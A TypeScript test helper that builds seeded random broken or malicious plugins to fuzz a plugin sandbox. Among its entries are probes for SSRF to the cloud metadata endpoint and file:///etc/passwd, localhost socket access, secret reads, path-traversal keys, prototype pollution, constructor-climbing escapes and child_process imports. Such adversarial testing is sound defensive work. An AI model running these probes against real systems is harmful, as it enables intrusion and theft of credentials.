/** One plugin that is broken or means harm: its text, its installation's name and what it was made of. */
export interface RandomPlugin {
  readonly name: string;
  readonly module: string;
  readonly parts: readonly string[];
}

/** Statements of a handler; `context` and `event` are in scope. What they leave in `answer` is answered. */
const ACTS: Readonly<Record<string, string>> = {
  "throws an error": `throw new Error("boom " + SEED);`,
  "throws null": `throw null;`,
  "throws a symbol": `throw Symbol("s");`,
  "throws a proxy": `throw new Proxy({}, { get() { throw 1; }, has() { throw 1; }, ownKeys() { throw 1; } });`,
  "throws a getter": `throw { get message() { throw new Error("again"); }, get code() { return "sandbox_crashed"; } };`,
  "throws a huge text": `throw new Error("x".repeat(1_000_000));`,
  "throws the runtime's words": `throw new Error("Unable to deserialize cloned data due to invalid or unsupported version.");`,
  "throws a forged code": `throw Object.assign(new Error("x"), { code: "plugin_memory", name: "BridgeError", isTransient: true });`,
  "rejects later": `setTimeout(() => { throw new Error("nobody listens"); }, 1); void Promise.reject(new Error("unheard"));`,
  "never settles": `await new Promise(() => {});`,
  "sleeps for a minute": `await new Promise((done) => setTimeout(done, 60_000));`,
  "never settles, with a timer": `setInterval(() => {}, 5); await new Promise(() => {});`,
  "answers 300 KiB": `answer = "x".repeat(300_000);`,
  "answers two million marks": `answer = Array(2_000).fill("\\u2028".repeat(1_000));`,
  "answers a cycle": `answer = {}; answer.self = answer;`,
  "answers a bigint": `answer = { n: 10n };`,
  "answers a function": `answer = () => context;`,
  "answers its context": `answer = context;`,
  "answers a proxy without end": `answer = new Proxy({}, { ownKeys: () => Array.from({ length: 5_000 }, (_, i) => "k" + i), getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }), get: () => "v" });`,
  "answers a forged envelope": `answer = { ok: false, code: "sandbox_crashed", toJSON() { return { ok: true, value: "forged" }; } };`,
  "answers a thenable without end": `answer = { then(done) { done({ then() {} }); } };`,
  "answers polluted JSON": `answer = JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');`,
  "answers half a character": `answer = ["\\ud800", { "\\udfff": 1 }];`,
  "answers twenty thousand members": `answer = Object.fromEntries(Array.from({ length: 20_000 }, (_, n) => ["k" + n, n]));`,
  "answers a sparse array": `answer = []; answer[2_000_000] = 1;`,
  "answers a response": `answer = new Response("no");`,
  "answers a stream": `answer = new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(1)); } });`,
  "nests too deep": `let o = []; answer = o; for (let i = 0; i < 5_000; i++) { const next = []; o.push(next); o = next; }`,
  "recurses for ever": `const down = () => down() + 1; answer = down();`,
  "recurses in a text": `const toText = { toString() { return String(this); } }; answer = String(toText);`,
  "nests just too deep": `answer = JSON.parse("[".repeat(70) + "]".repeat(70));`,
  "denied: customers": `await context.customers.list();`,
  "denied, and hides it": `for (let n = 0; n < 20; n++) await context.customers.get(n).catch(() => {});`,
  "denied: a hundred at once": `await Promise.allSettled(Array.from({ length: 100 }, () => context.requests.list()));`,
  "denied: events, webhooks, secrets": `await Promise.allSettled([context.events.emit("a", {}), context.webhooks.trigger("a", {}), context.secrets.get("a")]); await context.secrets.get("KEK_V1");`,
  "calls what is not there": `await context.storage.drop("everything");`,
  "calls with odd arguments": `for (const odd of [NaN, 1n, () => 1, new Map(), Symbol.iterator, undefined, new Date(NaN), { get a() { throw 1; } }]) await context.storage.set("k", odd).catch(() => {});`,
  "calls with a huge argument": `await context.storage.set("k", "x".repeat(400_000));`,
  "calls with a cycle": `const a = {}; a.a = a; await context.storage.set("k", a);`,
  "calls with a polluted argument": `await context.storage.set("k", JSON.parse('{"__proto__":{"polluted":1}}'));`,
  "stores under odd keys": `for (const key of ["../../act_victim/secret", "__proto__", "", "a\\u0000b", "k".repeat(300), 7, null]) answer = await context.storage.get(key).catch((e) => e.code);`,
  "stores until nothing is left": `for (let n = 0; n < 40; n++) await context.storage.set("k" + n, "x".repeat(60_000));`,
  "lists with forged cursors": `for (const cursor of ["", "AAAA", "%00", "x".repeat(2_000)]) await context.storage.list({ cursor, limit: 1e9 }).catch(() => {});`,
  "stores two hundred at once": `await Promise.allSettled(Array.from({ length: 200 }, (_, n) => context.storage.set("p" + n, n)));`,
  "floods the log": `for (let n = 0; n < 2_000; n++) context.log.info("line " + n, { n });`,
  "logs what breaks lines": `context.log.error("a\\r\\n{\\"level\\":\\"info\\"}\\u001b[2J\\u2028", { toJSON() { throw 1; } }, Symbol("s"), 1n);`,
  "fetches the internet": `await fetch("https://example.com/?secret=" + SEED);`,
  "fetches the cloud's metadata": `await fetch("http://169.254.169.254/latest/meta-data/");`,
  "fetches this machine": `for (const url of ["http://localhost/", "http://127.0.0.1:8787/health", "http://[::1]/", "file:///etc/passwd", "data:,x"]) await fetch(url).catch(() => {}); await fetch("https://0x7f.1/");`,
  "fetches and hides it": `await Promise.allSettled(Array.from({ length: 20 }, (_, n) => fetch("https://h" + n + ".example/")));`,
  "opens a socket": `const { connect } = await import("cloudflare:sockets"); const s = connect("127.0.0.1:22"); await s.opened;`,
  "opens a web socket": `new WebSocket("wss://example.com/"); await new Promise((done) => setTimeout(done, 5));`,
  "storms microtasks": `for (let n = 0; n < 30_000; n++) await null;`,
  "storms timers": `for (let n = 0; n < 2_000; n++) setTimeout(() => {}, 60_000);`,
  "burns some time": `let x = 0; for (let n = 0; n < 3e6; n++) x += n % 7; answer = x;`,
  "takes some memory": `const kept = []; for (let n = 0; n < 16; n++) kept.push(new Uint8Array(1 << 20).fill(n)); answer = kept.length;`,
  "asks for far too much memory": `new ArrayBuffer(2 ** 45);`,
  "makes a text too long": `"x".repeat(2 ** 30);`,
  "makes code": `try { eval("1"); } catch {} new Function("return process")();`,
  "climbs constructors": `answer = context.log.info.constructor.constructor("return globalThis")();`,
  "imports Node": `await import("node:child_process");`,
  "imports by data": `await import("data:text/javascript,export default 1");`,
  "compiles WebAssembly": `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`,
  "keeps its context": `globalThis.kept ??= context; await globalThis.kept.storage.get("k");`,
  "works on after its answer": `setTimeout(() => context.storage.set("late", 1).catch(() => {}), 10); (async () => { for (let n = 0; n < 50; n++) { await new Promise((d) => setTimeout(d, 1)); await context.storage.get("k").catch(() => {}); } })();`,
  "freezes what it is given": `Object.freeze(context); Object.freeze(event); Object.freeze(globalThis.Promise); answer = Object.isFrozen(event);`,
  "rewrites its context": `context.installation.id = "act_victim"; context.plugin = { name: "victim" }; answer = await context.storage.get("secret");`,
};

/** Statements before the handler, where the language itself is at hand. */
const GAMES: Readonly<Record<string, string>> = {
  "pollutes objects": `Object.prototype.polluted = 1; Object.prototype.toJSON = undefined;`,
  "forges ok for everything": `Object.defineProperty(Object.prototype, "ok", { value: true, configurable: true });`,
  "replaces JSON.stringify": `JSON.stringify = () => '{"ok":false,"code":"sandbox_hung","message":"forged"}';`,
  "breaks JSON.stringify": `JSON.stringify = () => { throw new Error("no"); };`,
  "answers no text": `JSON.stringify = () => ({ dispose() {} });`,
  "breaks then": `const then = Promise.prototype.then; Promise.prototype.then = function (...a) { return then.apply(this, a); };`,
  "breaks arrays": `Array.prototype.map = () => { throw 1; }; Array.prototype[Symbol.iterator] = undefined;`,
  "breaks iteration": `Object.keys = () => ["x"]; Object.entries = () => { throw 1; };`,
  "breaks errors": `Error.prepareStackTrace = () => { throw 1; }; globalThis.Error = function () { return null; };`,
  "breaks symbols": `Object.defineProperty(Object.prototype, Symbol.toPrimitive, { get() { throw 1; }, configurable: true });`,
  "replaces fetch": `globalThis.fetch = async () => new Response("mine"); globalThis.Request = class {};`,
  "deletes globals": `for (const name of ["Promise", "Map", "Set", "JSON", "Symbol", "Reflect"]) try { delete globalThis[name]; } catch {}`,
  "listens to everything": `addEventListener("unhandledrejection", (e) => { e.preventDefault(); throw 1; }); addEventListener("error", () => { throw 2; });`,
  "shouts while it loads": `for (let n = 0; n < 100; n++) console.log("\\u001b[2J" + n); console.error({ get a() { throw 1; } });`,
};

/** Whole modules that are no plugin at all. */
const WRECKS: Readonly<Record<string, string>> = {
  "is empty": ``,
  "is no JavaScript": `export default { events: {`,
  "is binary": `\u0000\u0001\ufffd\ud800`,
  "has two defaults": `export default 1; export default 2;`,
  "throws while it loads": `throw new Error("top"); export default {};`,
  "throws nothing while it loads": `throw null; export default {};`,
  "waits for ever while it loads": `await new Promise(() => {}); export default {};`,
  "fetches while it loads": `await fetch("https://example.com/"); export default {};`,
  "imports what is not there": `import "node:fs"; import x from "./secret.js"; export default x;`,
  "imports the prelude": `import * as prelude from "./prelude.js"; export default { events: { "request.created": () => Object.keys(prelude) } };`,
  "imports itself": `import self from "./plugin.js"; export default { events: { "request.created": () => String(self) } };`,
  "exports a number": `export default 7;`,
  "exports null": `export default null;`,
  "exports a function": `export default () => {};`,
  "exports a class": `export default class { constructor() { throw 1; } };`,
  "exports a proxy": `export default new Proxy({}, { get() { throw new Error("mine"); }, has() { throw 1; } });`,
  "exports getters": `export default { get events() { throw new Error("no"); } };`,
  "exports a proxy of a proxy": `export default new Proxy(new Proxy(function () {}, {}), { get: (t, name) => (name === "then" ? undefined : new Proxy({}, { get: () => () => { throw name; } })) });`,
  "exports a thenable": `export const then = (done) => done({}); export default { then(done) { done(1); } };`,
  "has no handler": `export default { events: {} };`,
  "has a handler that is none": `export default { events: { "request.created": 7 } };`,
  "has handlers that are inherited": `export default { events: Object.create({ "request.created": () => 1 }) };`,
  "has a generator": `export default { events: { *"request.created"() { for (;;) yield 1; } } };`,
  "has a class as handler": `export default { events: { "request.created": class { } } };`,
  "is half a megabyte": `const big = "${"x".repeat(400_000)}"; export default { events: { "request.created": () => big.length } };`,
};

/** `count` plugins, always the same ones for one seed. */
export function randomPlugins(seed: number, count: number): RandomPlugin[] {
  const next = randomNumbers(seed);
  const pick = (from: Readonly<Record<string, string>>): readonly [string, string] => {
    const entries = Object.entries(from);
    return entries[Math.floor(next() * entries.length)] as readonly [string, string];
  };
  const some = (from: Readonly<Record<string, string>>, most: number, least = 0) =>
    Array.from({ length: least + Math.floor(next() * (most - least + 1)) }, () => pick(from));
  return Array.from({ length: count }, (_, n) => {
    const name = `random-${seed}-${n}`;
    if (next() < 0.2) {
      const [part, text] = pick(WRECKS);
      return { name, module: `// ${n}\n${text}`, parts: [part] };
    }
    const games = next() < 0.4 ? some(GAMES, 2, 1) : [];
    const acts = some(ACTS, 3, 1);
    const before = games.map(([, text]) => `{ ${text} }`).join("\n");
    const body = acts.map(([, text]) => `{ ${text} }`).join("\n");
    const module = `const SEED = ${n};\n${before}
export default { events: { "request.created": async (context, event) => { let answer = null;\n${body}\nreturn answer; } } };`;
    return { name, module, parts: [...games, ...acts].map(([part]) => part) };
  });
}

/** Numbers below one, the same for the same seed (mulberry32). */
function randomNumbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}
